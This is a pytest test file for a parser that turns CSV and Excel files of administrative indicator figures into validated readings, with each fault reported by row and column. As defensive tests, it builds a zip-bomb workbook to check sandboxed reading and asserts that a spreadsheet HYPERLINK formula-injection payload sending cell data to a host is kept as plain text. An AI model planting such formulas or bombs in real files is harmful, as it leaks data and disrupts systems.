"""A table whose columns are the fields of a Reading is read row by row; every fault is told by its row and column."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from loopback import NOW, Answering, Source, answer

from collectors.faults import PersonalNumbers, ReadError
from collectors.reading import Bound, Measure, Readings
from collectors.reading import Warning as Doubt
from collectors.rows import KIND
from collectors.rows.config import HANDED_IN, RowsConfig
from collectors.rows.places import Place, place_in
from collectors.sandbox import Sandbox
from collectors.source import Access, Snapshot

HEAD = "unit,indicator,as_of,value"
ROW = "251,eid_activated,2023-06-18,61120"


def config(**measures: str) -> RowsConfig:
    return RowsConfig.model_validate({"address": HANDED_IN, "measures": measures})


def read(body: bytes, **measures: str) -> Readings:
    readings: Readings = KIND.read(Snapshot(body, "file", NOW), config(**measures))
    return readings


def csv(*rows: str) -> bytes:
    return "\r\n".join(rows).encode()


def workbook(*sheets: Sequence[Sequence[Any]], hide: int | None = None, hidden_row: int | None = None) -> bytes:
    """Sheets of rows; a tuple in a cell is a formula and its stored result."""
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"default_date_format": "d/m/yyyy"}) as book:
        for number, rows in enumerate(sheets):
            sheet = book.add_worksheet(f"Biểu {number + 1}")
            if number == hide:
                sheet.hide()
            if hidden_row is not None:
                sheet.set_row(hidden_row, None, None, {"hidden": True})
            for row, cells in enumerate(rows):
                for column, cell in enumerate(cells):
                    if isinstance(cell, tuple):
                        sheet.write_formula(row, column, cell[0], None, cell[1])
                    else:
                        sheet.write(row, column, cell)
    return made.getvalue()


def faults(readings: Readings) -> list[tuple[str, str]]:
    return [(one.place, one.rule) for one in readings.set_aside if one.failing]


def one_fault(cell: str, field: str = "value", indicator: str = "eid_activated") -> tuple[str, str]:
    """The rule and message of the one fault of a row with this cell."""
    found = read(csv(f"unit,indicator,as_of,{field}", f'251,{indicator},2023-06-18,"{cell}"'))
    assert not found.readings
    (fault,) = found.set_aside
    assert fault.place == f"row 2, column {field}"
    return fault.rule, fault.message


def test_each_row_is_a_reading_with_the_number_of_its_row_in_the_file() -> None:
    found = read(csv(" Unit , INDICATOR ,as_of,value,bound,note", f"{ROW},at_least,xem lại", "", f"{ROW},,"))
    assert [one.evidence.cell for one in found.readings] == ["row 2", "row 4"], "a blank row counts in the numbers"
    first = found.readings[0]
    assert (first.unit, first.value, first.bound, first.as_of) == ("251", 61120, Bound.AT_LEAST, date(2023, 6, 18))
    assert first.evidence.quote == "251 | eid_activated | 2023-06-18 | 61120 | at_least | xem lại"


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_csv_file_is_read_however_it_is_cut_and_written(mark: str, encoding: str) -> None:
    text = "\n".join((HEAD, "Huyện Yên Lạc,eid_activated,2023-06-18,61120")).replace(",", mark)
    (reading,) = read(text.encode(encoding)).readings
    assert (reading.unit, reading.value) == ("Huyện Yên Lạc", 61120)


def test_every_fault_of_a_row_is_told_and_no_other_row_suffers() -> None:
    found = read(csv(f"{HEAD},bound", "251,eid_activatd,18/6/2023,1.5,exact", f"{ROW},", "251,eid_activated,,abc,most"))
    assert [one.evidence.cell for one in found.readings] == ["row 3"]
    assert faults(found) == [
        ("row 2, column indicator", "indicator_unknown"),
        ("row 2, column as_of", "not_a_day"),
        ("row 4, column as_of", "missing"),
        ("row 4, column value", "not_a_number"),
        ("row 4, column bound", "unknown_word"),
    ]
    assert "did you mean eid_activated?" in found.set_aside[0].message


@pytest.mark.parametrize(
    ("mark", "cell", "value"),
    [
        (",", "61120", 61120),
        (",", "1.061.120", 1061120),
        (",", '"61,120"', 61120),
        (";", "61.120", 61120),
        (";", "61 120", 61120),
        ("\t", "61120,0", 61120),
        (",", "61.120", None),
        (",", "1.234", None),
        (";", "61,120", None),
        ("\t", "61.120", None),
        ("\t", "61,120", None),
    ],
)
def test_a_count_is_taken_in_either_notation_and_set_aside_where_its_mark_may_be_one_of_decimals(
    mark: str, cell: str, value: int | None
) -> None:
    found = read(csv(HEAD.replace(",", mark), mark.join(("251", "eid_activated", "2023-06-18", cell))))
    assert [one.value for one in found.readings] == ([] if value is None else [value])
    assert faults(found) == ([("row 2, column value", "ambiguous_number")] if value is None else [])


@pytest.mark.parametrize(
    ("cell", "share"),
    [("95 %", 0.95), ("95,5%", 0.955), ("95.5 %", 0.955), ("0.95", 0.95), ("0,95", 0.95), ("0", 0.0), ("100%", 1.0)],
)
def test_a_share_is_a_percentage_with_its_sign_or_less_than_one(cell: str, share: float) -> None:
    (reading,) = read(csv(HEAD, f'251,on_time_rate,2023-06-18,"{cell}"')).readings
    assert reading.value == share


@pytest.mark.parametrize("cell", ["95", "1", "1.0", "1.1194", "1,0"])
def test_a_bare_number_that_may_be_a_share_or_a_percentage_is_set_aside(cell: str) -> None:
    rule, message = one_fault(cell, "value", "on_time_rate")
    assert (rule, "95 %" in message) == ("ambiguous_number", True)
    assert one_fault(cell, "ratio")[0] == "ambiguous_number"


@pytest.mark.parametrize("cell", ["nan", "inf", "1e5", "١٢٣", "-5", "61120.5", "true", "12/15", "#REF!", "9" * 18])
def test_what_is_no_count_is_refused(cell: str) -> None:
    assert one_fault(cell)[0] in {"not_a_number", "negative", "not_whole", "too_large"}


@pytest.mark.parametrize(
    "cell", ["18/6/2023", "6/18/2023", "2023-02-30", "2023-6-18", "1899-12-31", "20230618", "hôm qua"]
)
def test_a_day_is_year_month_and_day(cell: str) -> None:
    found = read(csv(HEAD, f"251,eid_activated,{cell},61120"))
    assert faults(found) == [("row 2, column as_of", "not_a_day")]


def test_the_words_of_a_reading_are_read_and_their_faults_name_what_would_be_right() -> None:
    head = "unit_code,indicator,as_of,value,as_of_precision,assigned_by,of,ratio,out_of,warnings,quote"
    found = read(
        csv(
            head,
            '26,tasks_done,2023-09-30,46,Quarter,Province,assigned,"64,79 %",71,"ambiguous_date, unit_unknown",“46/71”',
            "26,tasks_done,2023-09-30,46,week,ward,all,,,sure,",
        )
    )
    (reading,) = found.readings
    assert (reading.unit_code, reading.assigned_by, reading.of, reading.ratio) == ("26", "province", "assigned", 0.6479)
    assert reading.warnings == (Doubt.AMBIGUOUS_DATE, Doubt.UNIT_UNKNOWN)
    assert reading.evidence.quote == "“46/71”"
    assert {one.place.rpartition(" ")[2]: one.rule for one in found.set_aside} == dict.fromkeys(
        ("as_of_precision", "assigned_by", "of", "warnings"), "unknown_word"
    )
    assert "government, province" in next(one.message for one in found.set_aside if "assigned_by" in one.place)


def test_an_indicator_of_the_campaign_needs_its_measure_said_once() -> None:
    row = "251,households_checked,2023-06-18,61120"
    assert faults(read(csv(HEAD, row))) == [("row 2, column indicator", "indicator_unknown")]
    (known,) = read(csv(HEAD, row), households_checked="people").readings
    (said,) = read(csv(f"{HEAD},measure", f"{row},people")).readings
    assert known.measure is said.measure is Measure.PEOPLE
    differing = read(csv(f"{HEAD},measure", f"{ROW},cards"))
    assert faults(differing) == [("row 2, column measure", "measure_differs")]


def test_numbers_stand_where_they_belong() -> None:
    head = "unit,indicator,as_of,value,count,out_of,ratio,rank"
    found = read(
        csv(
            head,
            "26,on_time_rate,2023-06-18,,950,1000,,",
            "26,par_index_rank,2023-06-18,,,,,3",
            "26,par_index_rank,2023-06-18,3,,,,",
            "26,eid_activated,2023-06-18,,950,1000,,",
            "26,on_time_rate,2023-06-18,,,,95 %,",
            "26,on_time_rate,2023-06-18,,5,0,,",
            "26,par_index_rank,2023-06-18,,,,,0",
            "26,on_time_rate,2023-06-18,101 %,,,,",
        )
    )
    assert [(one.value, one.count, one.rank) for one in found.readings] == [(0.95, 950, None), (None, None, 3)]
    assert [(one.place, one.rule) for one in found.set_aside if one.failing] == [
        ("row 4, column value", "out_of_place"),
        ("row 5, column count", "out_of_place"),
        ("row 6, column ratio", "out_of_place"),
        ("row 7, column out_of", "not_a_share"),
        ("row 8, column rank", "out_of_range"),
        ("row 9, column value", "not_a_share"),
    ]


def test_a_row_without_a_figure_is_said_and_is_neither_nought_nor_a_fault() -> None:
    found = read(
        csv(
            HEAD,
            ROW,
            "252,eid_activated,2023-06-18,",
            "253,eid_activated,,chưa báo cáo",
            "246,eid_activated,2023-06-18,0",
        )
    )
    assert [one.value for one in found.readings] == [61120, 0]
    assert [(one.place, one.rule, one.failing) for one in found.set_aside] == [
        ("row 3, column value", "not_reported", False),
        ("row 4, column value", "not_reported", False),
    ]
    with pytest.raises(ReadError, match="no row with a figure"):
        read(csv(HEAD, "252,eid_activated,2023-06-18,-"))


def test_a_number_cut_in_two_by_its_own_comma_moves_no_column() -> None:
    found = read(csv(HEAD, "251,eid_activated,2023-06-18,61,120", ROW))
    assert faults(found) == [("row 2", "columns_shifted")]
    assert "row 2, column 5" in found.set_aside[0].message
    assert len(found.readings) == 1


@pytest.mark.parametrize(
    ("head", "says"),
    [
        ("unit,indicator,as_of,valeu", ["column D", "'valeu'", "did you mean value?", "no column value"]),
        ("unit,indicator,as_of,value,value", ["value stands over column D and column E"]),
        ("unit,code,unit_code,indicator,as_of,value", ["unit_code stands over column B and column C"]),
        ("indicator,value", ["no column as_of", "no column unit or unit_code"]),
        ("Mã;Đơn vị;Số thẻ", ["'Mã'", "'Đơn vị'", "the fields are: indicator, unit"]),
        ("026099000000,indicator,as_of,value", ["row 1, column 1", "aggregates only"]),
    ],
)
def test_wrong_headings_are_one_clear_error(head: str, says: list[str]) -> None:
    with pytest.raises(ReadError) as caught:
        read(csv(head, ROW))
    assert all(words in str(caught.value) for words in says), caught.value
    assert "0260" not in str(caught.value)


def test_a_workbook_gives_the_same_and_dates_in_cells_are_days() -> None:
    rows = [
        ["unit_code", "indicator", "as_of", "value"],
        ["251", "eid_activated", date(2023, 6, 18), 61120],
        [252, "eid_activated", datetime.fromisoformat("2023-06-18T17:30"), 61120.0],
        ["253", "on_time_rate", "2023-06-18", 0.95],
        ["253", "on_time_rate", "2023-06-19", "100 %"],
        ["253", "on_time_rate", "2023-06-20", 1],
        ["253", "eid_activated", 45095, 61120.5],
        ["253", "eid_activated", "2023-06-18", "61.120"],
    ]
    found = read(workbook(rows))
    assert [(one.unit_code, one.value) for one in found.readings] == [
        ("251", 61120), ("252", 61120), ("253", 0.95), ("253", 1.0),
    ]  # fmt: skip
    assert {one.as_of for one in found.readings[:2]} == {date(2023, 6, 18)}
    assert faults(found) == [
        ("row 6, column value", "ambiguous_number"),
        ("row 7, column as_of", "not_a_day"),
        ("row 7, column value", "not_whole"),
        ("row 8, column value", "ambiguous_number"),
    ]
    assert found.set_aside[0].message.startswith("Biểu 1!D6: ")


def test_what_a_workbook_hides_is_left_out_and_said() -> None:
    head = ["unit", "indicator", "as_of", "value"]
    rows = [head, *(["251", "eid_activated", f"2023-06-{day}", 61120 + day] for day in (18, 19))]
    found = read(workbook(rows, [["riêng"]], rows, hide=2, hidden_row=2))
    assert [one.value for one in found.readings] == [61138]
    said = [(one.place, one.rule, one.failing) for one in found.set_aside]
    assert said == [
        ("sheet Biểu 3", "hidden", False),
        ("sheet Biểu 2", "left_out", False),
        ("row 3", "hidden", False),
    ]
    with pytest.raises(ReadError, match="Biểu 1 and Biểu 2"):
        read(workbook(rows, rows))


def test_formulas_without_a_result_and_error_values_are_named_by_their_cells() -> None:
    body = workbook(
        [
            ["unit", "indicator", "as_of", "value"],
            ["251", "eid_activated", "2023-06-18", ("=1+1", "")],
            ["251", "eid_activated", "2023-06-19", ("=1/0", "#DIV/0!")],
            [("=A1", ""), "eid_activated", "2023-06-19", 61120],
        ]
    )
    found = read(body)
    assert [(one.place, one.rule) for one in found.set_aside] == [
        ("row 2, column value", "formula_without_result"),
        ("row 3, column value", "error_value"),
        ("row 4, column unit", "formula_without_result"),
    ]
    assert "Biểu 1!D2" in found.set_aside[0].message


@pytest.mark.parametrize(
    "row", ["026099000000,eid_activated,2023-06-18,1", "251,eid_activated,2023-06-18,026 099 000000"]
)
def test_a_file_with_a_personal_number_is_refused_without_its_digits(row: str) -> None:
    with pytest.raises(PersonalNumbers) as caught:
        read(csv(HEAD, ROW, row))
    assert "row 3" in str(caught.value)
    assert "099" not in str(caught.value)


def test_a_hostile_file_is_read_in_a_process_of_its_own() -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/workbook.xml", b"<workbook/>")
        package.writestr("xl/worksheets/sheet1.xml", b"0" * 310_000_000)
    with Sandbox() as sandbox:
        with pytest.raises(ReadError, match="unpacks to"):
            sandbox.read("rows", Snapshot(bomb.getvalue(), "file:x", NOW), config())
        answered = sandbox.read("rows", Snapshot(csv(HEAD, ROW, "x"), "file:x", NOW), config())
    assert answered == read(csv(HEAD, ROW, "x"))


def test_a_source_of_this_kind_is_asked_at_its_address(serve: Callable[[Answering], Source], access: Access) -> None:
    source = serve(lambda _: [answer(csv(HEAD, ROW))])
    there = RowsConfig(address=source.address)
    (reading,) = KIND.read(KIND.fetch(there, access, NOW), there).readings
    assert reading.value == 61120


@pytest.mark.parametrize(("name", "rows"), [("S01.csv", 2), ("S04.csv", 2), ("U04.csv", 6), ("X02.csv", 2)])
def test_the_files_of_others_troubles_are_read_whole(case_file: Callable[[str], Path], name: str, rows: int) -> None:
    found = read(case_file(name).read_bytes())
    assert (len(found.readings), found.set_aside) == (rows, ())


def test_a_formula_for_a_name_stays_the_text_that_was_written(case_file: Callable[[str], Path]) -> None:
    first = read(case_file("X02.csv").read_bytes()).readings[0]
    assert (first.unit_code, first.unit) == ("248", '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Tam Đảo")')


@given(st.integers(1, 10**8), st.sampled_from((None, "value", "as_of_precision")))
def test_a_place_says_its_row_and_column_and_is_found_again(row: int, column: str | None) -> None:
    assert place_in(str(Place(row, column))) == Place(row, column)


@pytest.mark.parametrize("words", [None, "", "Sheet1!C5", "row 0", "row 3, column 'Lũy kế'", "rows 3", "row 3 of"])
def test_places_of_other_documents_are_not_taken_for_rows(words: str | None) -> None:
    assert place_in(words) is None
